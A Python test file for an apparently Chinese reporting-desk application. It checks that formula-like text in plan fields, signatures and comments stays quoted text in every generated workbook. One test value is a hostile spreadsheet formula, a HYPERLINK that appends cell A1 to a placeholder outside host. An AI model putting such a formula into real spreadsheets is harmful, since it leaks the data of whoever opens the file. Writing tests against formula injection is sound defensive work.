"""A plan of nothing but texts that look like formulas: in no workbook of a whole round does one of them become one."""

import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import openpyxl
import pytest
from openpyxl import Workbook, load_workbook

from db.vocabulary import FileState, Origin
from desktop.desk import Desk
from desktop.exchange.layout import TEXT_KEYS
from desktop.exchange.texts import needs_quoting
from desktop.operations.editing import CellEdit
from desktop.operations.entry import Signature, edit_entries, load_entry, set_signature
from desktop.operations.filling import fill_template, write_names
from desktop.operations.issue import issue
from desktop.operations.new import PlanName, build
from desktop.operations.receipts import send_receipts
from desktop.operations.receive import receive, receive_into
from desktop.operations.report import report
from desktop.operations.returning import Comment, return_report
from desktop.operations.summary import summarize
from desktop.operations.units import load_units, set_contact

PERIOD = "2024-03"
CALL = '=HYPERLINK("http://a.example/?"&A1,"看")'
PLAN, NOTE, AREA, TITLE, UNIT, COUNTED = "=计划", CALL, "@板块&R", "+目标", "=甲局", "-个"


@pytest.fixture
def books(tmp_path: Path, sit_down: Callable[[Path], Desk]) -> dict[str, Path]:
    """Every workbook of a round, by what it is."""
    line = {
        "code": "=1",
        "area": AREA,
        "title": TITLE,
        "kind": "quantity",
        "comparator": "at_least",
        "target": "12",
        "unit": COUNTED,
        "accumulation": "cumulative",
        "lead": UNIT,
        "support": "",
        "note": CALL,
        "consolidation": "",
    }
    build(tmp_path / "hq.db", [(2, line)], PlanName(2024, PLAN, NOTE), "@督查室", Origin.COMMAND)
    headquarters = sit_down(tmp_path / "hq.db")
    (key,) = [one.key for one in load_units(headquarters) if one.name == UNIT]
    set_contact(headquarters, key, {"person": "@联系人", "phone": "027"})
    issued = issue(headquarters, PERIOD, tmp_path / "下达")
    receive_into(tmp_path / "unit.db", issued.files, Origin.COMMAND)
    unit = sit_down(tmp_path / "unit.db")
    (row,) = load_entry(unit, PERIOD).rows
    texts = [CellEdit(row.target.key, field, CALL) for field in TEXT_KEYS]
    edit_entries(unit, PERIOD, [*texts, CellEdit(row.target.key, "value", "9223372036854.775807")])
    set_signature(unit, PERIOD, Signature("=王", "+李", "027"))
    reported = report(unit, PERIOD, tmp_path / "上报.xlsx").path
    assert reported is not None
    (taken,) = receive(headquarters, [reported])
    assert taken.state is FileState.TAKEN
    bad = load_workbook(reported)
    bad["填报"]["M7"] = "=1+"
    bad["填报"]["M7"].data_type = "s"
    bad.save(tmp_path / "坏.xlsx")
    (receipt,) = send_receipts(headquarters, receive(headquarters, [tmp_path / "坏.xlsx"]), tmp_path / "回执").files
    form = Workbook()
    form.active.append(["{{plan.title}}", "{{=1.title}}", "见{{=1.narrative}}", "{{=1.value}}"])
    form.save(tmp_path / "表.xlsx")
    return {
        "assignment": issued.files[0],
        "covering": issued.covering,
        "report": reported,
        "review": return_report(
            headquarters, PERIOD, UNIT, [Comment("=1", "value", CALL)], tmp_path / "审核.xlsx"
        ).path,
        "summary": summarize(headquarters, PERIOD, tmp_path / "汇总.xlsx"),
        "receipt": receipt,
        "filled": fill_template(headquarters, PERIOD, tmp_path / "表.xlsx", tmp_path / "填好.xlsx").path,
        "names": write_names(headquarters, PERIOD, tmp_path / "填写项.xlsx"),
    }


def cells(path: Path) -> Iterator[Any]:
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


# Which of these texts stand in each workbook.
THERE = {
    "assignment": {PLAN, NOTE, AREA, TITLE, UNIT, COUNTED, "=1"},
    "covering": {UNIT, "@联系人", "027"},
    "report": {PLAN, AREA, TITLE, UNIT, COUNTED, CALL, "=王", "+李", "027", "9223372036854.775807"},
    "review": {PLAN, TITLE, UNIT, CALL, "9223372036854.775807"},
    "summary": {NOTE, AREA, TITLE, UNIT, COUNTED, CALL, "9223372036854.775807"},
    "receipt": {TITLE, CALL, "=1+"},
    "filled": {PLAN, TITLE, "9223372036854.775807"},
    "names": {PLAN, UNIT, TITLE, CALL},
}


def test_no_text_becomes_a_formula_in_any_workbook(books: dict[str, Path]) -> None:
    for name, path in books.items():
        found = list(cells(path))
        formulas = {str(cell.value) for cell in found if cell.data_type == "f"}
        assert all(formula.startswith(("=IF(", "=SUM(")) for formula in formulas), name
        texts = [cell for cell in found if cell.data_type == "s" and needs_quoting(cell.value)]
        # What travels unseen is typed by nobody.
        bare = {str(cell.value) for cell in texts if not cell.quotePrefix and cell.parent.title != "_desk"}
        assert bare == set(), name
        assert THERE[name] <= {str(cell.value) for cell in texts}, name


def test_the_foot_of_a_page_shows_a_name_as_it_is(books: dict[str, Path]) -> None:
    with zipfile.ZipFile(books["summary"]) as package:
        sheets = [package.read(name).decode() for name in package.namelist() if "worksheets/sheet" in name]
    foot = escape(f"&L{AREA.replace('&', '&&')}&C第")
    assert sum(foot in sheet for sheet in sheets) == 1
